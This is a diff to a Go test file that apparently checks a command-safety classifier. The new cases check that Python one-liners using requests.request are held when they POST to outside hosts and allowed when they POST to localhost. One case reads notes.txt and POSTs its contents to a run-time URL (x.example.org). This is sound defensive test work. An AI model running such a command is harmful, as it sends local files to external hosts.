@@ -50,6 +50,19 @@ func TestCls32OldTrafficLoopbackName(t *testing.T) {
 	})
 }
 
+// TestCls32OldTrafficRequestMethodFirst: requests.request(METHOD, URL)
+// takes the method first and the destination second, so a method's
+// string there is no destination: a URL given at run time after it is
+// held, even beside a loopback URL printed elsewhere.
+func TestCls32OldTrafficRequestMethodFirst(t *testing.T) {
+	checkTiersIn(t, "/app", "/root", nil, []tierCase{
+		{"method-first", "python3 -c \"import requests, sys; u = sys.argv[1]; requests.request('POST', u, data=open('notes.txt').read()); print('http://localhost:8000')\" https://x.example.org", "held"},
+		{"method-first", "python3 -c \"import requests; r = requests.request('POST', 'https://collect.example.org/api', json={'a': 1}); print(r.status_code)\"", "held"},
+
+		{"method-first-local", "python3 -c \"import requests; r = requests.request('POST', 'http://localhost:8000/api', json={'a': 1}); print(r.status_code)\"", "pass"},
+	})
+}
+
 // TestCls32OldTrafficReadOptions: a command given nothing but long
 // options named by verbs that only read reads: service(8) --status-all
 // runs every init script with status. With a service and an action, an
